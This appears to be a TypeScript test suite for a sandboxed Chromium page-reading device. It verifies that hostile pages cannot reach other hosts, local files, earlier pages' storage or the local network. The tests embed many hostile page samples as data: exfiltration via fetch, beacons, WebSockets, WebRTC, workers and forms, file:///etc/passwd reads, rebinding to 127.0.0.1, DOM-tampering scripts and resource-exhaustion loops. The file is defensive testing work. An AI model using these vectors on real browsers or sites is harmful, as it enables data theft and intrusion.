// The device `browser` in a real Chromium against servers of this machine: it shows what programs of a page make, and a hostile
// page reaches nothing: not another host, not this machine, not the person's files, not the next page.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { after, test } from "node:test";
import { type BrowserOptions, createBrowser } from "../src/device/browser/browser.ts";
import { findBrowser } from "../src/device/browser/find.ts";
import type { DeviceContext, DeviceResult } from "../src/device/device.ts";
import { detectSandbox } from "../src/device/sandbox.ts";
import { openRoom, testDevice } from "./contract/device.ts";
import { skipWithout, skipWithoutSandbox } from "./fixtures/needs.ts";

const sandbox = await detectSandbox();
const skip =
  skipWithoutSandbox(sandbox) || skipWithout(findBrowser() !== null, "no Chromium on this machine");

const pages: Record<string, string> = {
  "/": '<title>Shop</title><p>Prices</p><p style="display:none">hidden words</p><a href="/more">More of it</a><script>fetch("/data").then((r) => r.text()).then((t) => { document.body.append(t); });</script>',
  "/data": "The tent costs 129.",
  "/jump": "302 /",
  "/loop": "302 /loop",
  "/alert":
    '<script>alert("a"); confirm("b"); prompt("c"); onbeforeunload = () => "stay"; document.write("after the questions");</script>',
  "/spin": "<p>spin</p><script>for (;;);</script>",
  "/eat": "<p>eat</p><script>const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1));</script>",
  "/endless": '<p>never quiet</p><script>setInterval(() => fetch("/data?" + Math.random()), 20);</script>',
  "/store":
    '<p id="p"></p><script>p.innerText = "before: " + (localStorage.seen ?? "nothing") + " " + document.cookie; localStorage.seen = "yes"; document.cookie = "a=1";</script>',
  "/long": `<p>${"word ".repeat(4_000)}</p>`,
  "/tamper":
    '<p>true words</p><script>Document.prototype.querySelectorAll = () => [{ href: "http://x/", innerText: "x" }]; Object.defineProperty(HTMLElement.prototype, "innerText", { get: () => "false words" });</script>',
};

interface Heard {
  server: Server;
  port: number;
  hits: string[];
  heads: IncomingMessage["headers"][];
}

async function listen(answer: (url: string) => string | undefined): Promise<Heard> {
  const hits: string[] = [];
  const heads: IncomingMessage["headers"][] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    heads.push(request.headers);
    const path = (request.url ?? "").split("?", 1)[0]!;
    const body = answer(path);
    if (path === "/hang") return;
    if (path === "/file")
      return response.writeHead(200, { "content-disposition": "attachment; filename=x.sh" }).end("x");
    if (body?.startsWith("302 ")) return response.writeHead(302, { location: body.slice(4) }).end();
    response.writeHead(body === undefined ? 404 : 200, { "content-type": "text/html", "set-cookie": "s=1" });
    response.end(body ?? "nothing here");
  });
  server.on("upgrade", (request, socket) => {
    hits.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, port: (server.address() as AddressInfo).port, hits, heads };
}

const shop = await listen((path) => pages[path]);
const other = await listen(() => "secret of the other server");
after(() => {
  for (const { server } of [shop, other]) {
    server.closeAllConnections();
    server.close();
  }
});
const base = `http://127.0.0.1:${shop.port}`;
const hosts = [`127.0.0.1:${shop.port}`];

testDevice("browser", {
  create: ({ blobs }) => createBrowser({ sandbox, blobs, ms: 20_000 }),
  context: { hosts },
  skip,
  cases: [
    {
      operation: "read",
      good: { url: `${base}/`, picture: "shots/shop.png" },
      bad: [
        {},
        { url: "file:///etc/passwd" },
        { url: "javascript:1" },
        { url: "http://me:pw@x.org/" },
        { url: base, page: 0 },
      ],
      failing: [
        { url: `${base}/none` },
        { url: `http://127.0.0.1:${other.port}/` },
        { url: "http://127.0.0.1:1/" },
        { url: `${base}/loop` },
        { url: `${base}/file` },
        { url: `${base}/`, picture: "../outside/x.png" },
      ],
      slow: { url: `${base}/hang` },
    },
  ],
});

async function read(
  url: string,
  {
    args = {},
    options = {},
    context = {},
  }: { args?: object; options?: Partial<BrowserOptions>; context?: Partial<DeviceContext> } = {},
): Promise<DeviceResult> {
  await using room = await openRoom();
  const operation = createBrowser({ sandbox, blobs: room.blobs, ms: 20_000, ...options }).operations.read!;
  return await operation.run(operation.args.parse({ url, ...args }), room.context({ hosts, ...context }));
}

/** Puts a page at a fresh path of the shop. */
function put(html: string): string {
  const path = `/p${createHash("sha256").update(html).digest("hex").slice(0, 12)}`;
  pages[path] = html;
  return base + path;
}

test("what the programs of a page make is read, as a person sees it, with its links", { skip }, async () => {
  shop.heads.length = 0;
  const seen = await read(`${base}/`);
  assert.equal(seen.ok, true, seen.text);
  assert.match(seen.text, new RegExp(`^\\[200\\] Shop\n${base}/\n\nPrices\n`));
  assert.match(seen.text, /The tent costs 129\./);
  assert.match(seen.text, new RegExp(`Links:\n- More of it: ${base}/more`));
  assert.doesNotMatch(seen.text, /hidden words/);
  assert.deepEqual(seen.label, { integrity: "untrusted", origins: ["host:127.0.0.1"], readers: null });
  assert.deepEqual(
    seen.egress?.map((one) => one.host),
    hosts,
  );
  assert.ok(shop.heads.every((head) => head.cookie === undefined && head.authorization === undefined));
  const again = await read(`${base}/jump`);
  assert.match(again.text, /The tent costs 129\./, "a way on within the host is followed");
  const long = await read(`${base}/long`);
  assert.match(long.text, /\[part 1 of 3: read it with "page": 2/);
  assert.match((await read(`${base}/long`, { args: { page: 3 } })).text, /word word/);
});

test("a picture of the page is a file that can be undone", { skip }, async () => {
  await using room = await openRoom();
  const operation = createBrowser({ sandbox, blobs: room.blobs }).operations.read!;
  const args = operation.args.parse({ url: `${base}/`, picture: "shop.png" });
  const seen = await operation.run(args, room.context({ hosts }));
  assert.equal(seen.changes?.length, 1, seen.text);
  const bytes = await readFile(join(room.folder, "shop.png"));
  assert.equal(bytes.subarray(1, 4).toString(), "PNG");
});

test("[D6] a page reaches no host that nobody granted, in no way that a page has", { skip }, async () => {
  const to = `127.0.0.1:${other.port}`;
  const ways: Record<string, string> = {
    fetch: `<script>fetch("http://${to}/fetch?" + document.title)</script>`,
    "no-cors": `<script>fetch("http://${to}/nocors", { mode: "no-cors" })</script>`,
    xhr: `<script>const x = new XMLHttpRequest(); x.open("GET", "http://${to}/xhr"); x.send()</script>`,
    image: `<img src="http://${to}/image">`,
    script: `<script src="http://${to}/script"></script>`,
    style: `<link rel="stylesheet" href="http://${to}/style"><style>@import "http://${to}/import"; body { background: url(http://${to}/bg) }</style>`,
    hints: `<link rel="prefetch" href="http://${to}/pre"><link rel="preconnect" href="http://${to}"><link rel="prerender" href="http://${to}/r"><link rel="preload" as="script" href="http://${to}/l">`,
    frame: `<iframe src="http://${to}/frame"></iframe>`,
    object: `<object data="http://${to}/object"></object><embed src="http://${to}/embed">`,
    socket: `<script>new WebSocket("ws://${to}/socket")</script>`,
    events: `<script>new EventSource("http://${to}/events")</script>`,
    beacon: `<script>navigator.sendBeacon("http://${to}/beacon", "data")</script>`,
    worker: `<script>new Worker(URL.createObjectURL(new Blob(['fetch("http://${to}/worker"); importScripts("http://${to}/import")'])))</script>`,
    open: `<script>window.open("http://${to}/open")</script><a id="a" target="_blank" href="http://${to}/click">x</a><script>a.click()</script>`,
    form: `<form id="f" method="post" action="http://${to}/form"><input name="a" value="b"></form><script>f.submit()</script>`,
    go: `<script>location = "http://${to}/go"</script>`,
    refresh: `<meta http-equiv="refresh" content="0;url=http://${to}/refresh">`,
    rtc: `<script>const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:${to}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))</script>`,
    module: `<script type="module">import "http://${to}/module"</script>`,
    redirect: "302 http://127.0.0.1:PORT/redirect".replace("PORT", String(other.port)),
  };
  other.hits.length = 0;
  const together = Object.entries(ways).filter(
    ([name]) => !["form", "go", "refresh", "redirect"].includes(name),
  );
  const all = await read(
    put(`<title>private</title><p>here</p>${together.map(([, html]) => html).join("")}`),
  );
  assert.match(all.text, /here/);
  assert.match(all.text, new RegExp(`\\[not fetched, because nobody granted it: .*${to} \\(\\d+\\)`));
  const tried = (all.data as { refused: Record<string, number> }).refused[to] ?? 0;
  assert.ok(tried >= 10, `it tried, ${tried} times`);
  for (const name of ["form", "go", "refresh", "redirect"]) {
    const seen = await read(put(ways[name]!.startsWith("302") ? ways[name]! : `<p>here</p>${ways[name]}`));
    assert.doesNotMatch(seen.text, /secret of the other server/, name);
  }
  assert.deepEqual(other.hits, []);
});

test("[D6] what a page sends to its own host is not sent either", { skip }, async () => {
  shop.hits.length = 0;
  const url = put(
    '<p>here</p><script>fetch("/post", { method: "POST", body: "x" }); fetch("/del", { method: "DELETE" }); new WebSocket("ws://" + location.host + "/socket"); navigator.sendBeacon("/beacon", "x")</script>',
  );
  assert.match((await read(url)).text, /\(POST\)/);
  assert.deepEqual(
    shop.hits.filter((hit) => !hit.startsWith("GET")),
    [],
  );
});

test("[D6] names that lead to this machine or its network are refused, also for a part of a page", {
  skip,
}, async () => {
  shop.hits.length = 0;
  other.hits.length = 0;
  const resolve = async (name: string) => (name === "public.example" ? ["127.0.0.1"] : ["10.0.0.1"]);
  const wide = await read(`http://public.example:${shop.port}/`, {
    options: { resolve },
    context: { hosts: ["*", `*:${shop.port}`] },
  });
  assert.equal(wide.ok, false);
  assert.match(wide.text, /is at 127\.0\.0\.1, which is not on the public internet/);
  assert.deepEqual(shop.hits, []);
  // The person granted a place on this machine for itself; a page of another place must not use it.
  const to = `127.0.0.1:${other.port}`;
  const path = new URL(
    put(
      `<p>here</p><script>fetch("http://${to}/x", { mode: "no-cors" })</script><iframe src="http://${to}/y"></iframe>`,
    ),
  ).pathname;
  const page = await read(`http://public.example:${shop.port}${path}`, {
    options: { resolve },
    context: { hosts: [`public.example:${shop.port}`, to] },
  });
  assert.match(page.text, /here/);
  assert.deepEqual(other.hits, []);
});

test("[D6] a page sees no file of the machine and nothing of a page before it", { skip }, async () => {
  for (let i = 0; i < 2; i++) assert.match((await read(`${base}/store`)).text, /before: nothing/);
  const url = put(
    '<p id="p">none</p><iframe src="file:///etc/passwd"></iframe><script>fetch("file:///etc/passwd").then((r) => r.text()).then((t) => { p.innerText = t; }, () => { p.innerText = "no file"; }); setTimeout(() => { location = "file:///etc/passwd"; }, 50)</script>',
  );
  const seen = await read(url);
  assert.match(seen.text, /no file/);
  assert.doesNotMatch(seen.text, /nobody:|root:/);
});

test("what a page still waits for when it was read is given up", { skip }, async () => {
  const seen = await read(put('<p>waits</p><script>fetch("/hang")</script>'));
  assert.match(seen.text, /waits[\s\S]*still at work/);
  const left = await new Promise<number>((resolve, reject) =>
    shop.server.getConnections((error, count) => (error ? reject(error) : resolve(count))),
  );
  assert.equal(left, 0);
});

test("questions of a page, changed functions and endless work do not stop or fool the reading", {
  skip,
}, async () => {
  assert.match((await read(`${base}/alert`)).text, /after the questions/);
  const tampered = await read(`${base}/tamper`);
  assert.match(tampered.text, /true words/);
  assert.doesNotMatch(tampered.text, /false words/);
  const endless = await read(`${base}/endless`);
  assert.match(endless.text, /never quiet[\s\S]*still at work when it was read/);
  const spin = await read(`${base}/spin`, { options: { ms: 4_000 } });
  assert.match(spin.text, /not ready within 4 s/);
  assert.deepEqual(
    spin.egress?.map((one) => one.host),
    hosts,
    "what was sent is told also then",
  );
  assert.equal((await read(`${base}/eat`, { options: { ms: 15_000 } })).ok, false);
  assert.match((await read(`${base}/`)).text, /The tent costs/, "the next page is none the worse");
});

test("without a browser or a sandbox it says so, and what to do", async () => {
  assert.match(
    (await read(base, { options: { browser: null } })).text,
    /no browser on this machine.*Use http\.get/,
  );
  const browser = { program: "/usr/bin/true", folder: null };
  assert.match(
    (await read(base, { options: { sandbox: null, browser } })).text,
    /in a sandbox only.*Use http\.get/,
  );
  assert.equal(findBrowser(["/nowhere/chromium"]), null);
});
